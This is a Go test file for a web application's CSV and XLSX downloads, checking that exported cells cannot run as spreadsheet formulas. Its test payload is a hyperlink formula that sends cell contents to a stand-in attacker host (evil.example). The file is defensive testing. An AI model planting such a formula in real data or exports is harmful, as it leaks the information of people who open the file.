package web_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/r2p-coalition/r2p/internal/account"
)

// formula is text that a spreadsheet would run as a formula.
const formula = `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`

// TestNoDownloadStartsAFormula stores a formula in every field, then
// fetches every GET route as an admin and reads each CSV and XLSX answer:
// no CSV cell begins with what Excel and LibreOffice read as a formula (=
// + - @, a tab or a carriage return; r2p writes it after an apostrophe),
// no workbook cell is a formula (r2p writes text cells), and the downloads
// that carry names have the formula there, as text.
func TestNoDownloadStartsAFormula(t *testing.T) {
	h := newHarness(t)
	hostileData(t, h, formula)
	admin := h.session(account.Admin)
	asText := map[string]bool{}
	for _, rt := range h.srv.Routes() {
		if rt.Method != "GET" || rt.API {
			continue
		}
		targets := []string{concrete(rt.Pattern), concrete(rt.Pattern) + "?format=wide"}
		if rt.Pattern == "/admin/export/organizations/{format}" {
			targets = []string{"/admin/export/organizations/csv", "/admin/export/organizations/xlsx"}
		}
		for _, target := range targets {
			res := h.do(request{target: target, session: admin})
			switch contentType := res.Header.Get("Content-Type"); {
			case strings.HasPrefix(contentType, "text/csv"):
				for _, cell := range csvCells(t, target, res.body) {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("GET %s: the cell %q is a formula", target, cell)
					}
					asText[target] = asText[target] || cell == "'"+formula
				}
			case strings.Contains(contentType, "spreadsheetml"):
				for _, cell := range workbookCells(t, target, []byte(res.body)) {
					asText[target] = asText[target] || cell == formula
				}
			}
		}
	}
	for _, download := range []string{"/c/ga-2009/signatories.csv", "/c/ga-2009/signatories.xlsx",
		"/admin/export/organizations/csv", "/admin/export/organizations/xlsx", "/admin/missions.csv"} {
		if !asText[download] {
			t.Errorf("GET %s never had the formula as text: the check proves nothing there", download)
		}
	}
}

func csvCells(t *testing.T, target, body string) []string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Errorf("GET %s: %v", target, err)
	}
	var cells []string
	for _, row := range rows {
		cells = append(cells, row...)
	}
	return cells
}

// workbookCells are the values of every cell of every sheet; a cell that
// holds a formula is an error.
func workbookCells(t *testing.T, target string, data []byte) []string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("GET %s: %v", target, err)
	}
	defer f.Close()
	var cells []string
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatalf("GET %s: sheet %s: %v", target, sheet, err)
		}
		for r, row := range rows {
			for c, value := range row {
				name, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if f, _ := f.GetCellFormula(sheet, name); f != "" {
					t.Errorf("GET %s: %s!%s is the formula %q", target, sheet, name, f)
				}
				cells = append(cells, value)
			}
		}
	}
	return cells
}
